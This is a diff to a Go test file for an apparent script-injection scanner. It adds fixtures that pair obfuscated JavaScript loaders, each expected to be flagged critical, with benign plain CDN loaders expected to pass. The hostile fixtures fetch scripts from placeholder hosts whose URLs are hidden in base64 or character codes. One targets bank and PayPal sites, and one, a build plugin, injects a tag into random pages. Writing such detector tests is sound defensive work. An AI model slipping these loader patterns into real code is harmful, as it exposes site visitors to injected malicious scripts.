@@ -58,6 +58,9 @@ func TestScriptInjection(t *testing.T) {
 		{"decoded_src", map[string]string{"index.js": `const U = "aHR0cHM6Ly9zLmV4YW1wbGUuaW52YWxpZC9saWIvcy5qcw==";
 export function boot() { if (!/bank|paypal/i.test(location.hostname)) return; const s = document.createElement("script"); s.src = atob(U); document.head.appendChild(s) }`}, finding.SeverityCritical},
 		{"char_codes_write", map[string]string{"index.js": `document.write("<script src='" + String.fromCharCode(104,116,116,112,115,58,47,47,120,46,101,120,97,109,112,108,101,46,105,110,118,97,108,105,100,47,97,46,106,115) + "'></scr" + "ipt>")`}, finding.SeverityCritical},
+		// a build plugin writing a script tag into the pages it emits
+		{"build_plugin_tag", map[string]string{"index.js": `const SRC = "aHR0cHM6Ly9zLmV4YW1wbGUuaW52YWxpZC9tLmpz"; module.exports = html => Math.random() < 0.3 ? html.replace("</head>", ` + "`<script async src=\"${Buffer.from(SRC, \"base64\").toString()}\"></script></head>`" + `) : html`}, finding.SeverityCritical},
+		{"build_plugin_plain_tag", map[string]string{"index.js": `module.exports = html => html.replace("</head>", '<script async src="https://cdn.example.invalid/analytics.js"></script></head>')`}, finding.SeverityNone},
 		// an SDK loader names its CDN in plain text
 		{"sdk_loader", map[string]string{"index.js": `export function load() { const s = document.createElement("script"); s.src = "https://js.payments.example.invalid/v3"; document.head.appendChild(s) }`}, finding.SeverityNone},
 		// a decoded URL that is only fetched as data
